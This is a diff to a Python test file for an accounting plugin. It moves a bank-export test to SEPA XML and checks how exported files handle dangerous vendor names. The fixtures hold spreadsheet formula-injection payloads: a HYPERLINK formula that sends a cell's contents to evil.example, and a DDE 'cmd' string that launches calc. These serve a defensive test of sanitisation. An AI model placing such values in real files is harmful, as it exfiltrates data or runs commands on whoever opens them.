@@ -10,6 +10,7 @@ import io
 
 from core.csvsafe import FORMULA_STARTS
 from plugins.accounting import reports
+from plugins.accounting import sepa
 from plugins.accounting import service as svc
 
 EVIL_VENDOR = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Rechnung\")"
@@ -81,9 +82,11 @@ def test_reports_and_journal_csv_neutralise_text_and_keep_negative_amounts(offic
 def test_machine_formats_are_left_as_they_were(office):
     bd, ctx, ids = office
     v, b = _books(ctx)
-    run = svc.payment_run(ctx, "2026-01-31", "2026-01-20")
-    lines = svc.bank_csv(ctx, run["id"]).splitlines()
-    # the bank reads the vendor's name as it is; nobody opens this file in a spreadsheet to run it
-    assert lines[1] == f'2026-01-20,"{EVIL_VENDOR.replace(chr(34), chr(34) * 2)}",{v["iban"]},,119.00,EUR,+RE-1'
+    run = sepa.payment_run(ctx, "2026-01-31", "2026-01-20")
+    xml = sepa.pain001(ctx, run).decode()
+    # the bank's file is XML in the SEPA character set: the name without its quotes, = and &; the
+    # bill number as the vendor wrote it (+ is a SEPA character); no apostrophe put in front
+    assert "<Nm>HYPERLINK( http://evil.example/? +A1, Rechnung )</Nm>" in xml
+    assert "<Ustrd>+RE-1</Ustrd>" in xml
     journal = reports.export_hledger(ctx)
     assert "=cmd|' /C calc'!A0" in journal and "'=cmd" not in journal
